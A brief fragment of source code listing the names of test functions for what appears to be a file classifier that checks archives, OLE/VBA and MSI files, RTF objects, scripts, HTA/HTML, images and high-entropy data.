          test_rar4_lists_its_file_headers, test_ole_vba_project_and_msi_class_id,
          test_rtf_objects, test_scripts_need_two_markers_or_a_shebang,
          test_markers_are_found_anywhere,
          test_hta_html_and_images, test_high_entropy_above_7_2_bits,
          test_random_bytes_against_structured_binary,
          test_file_name_helpers, test_empty_and_tiny_buffers)
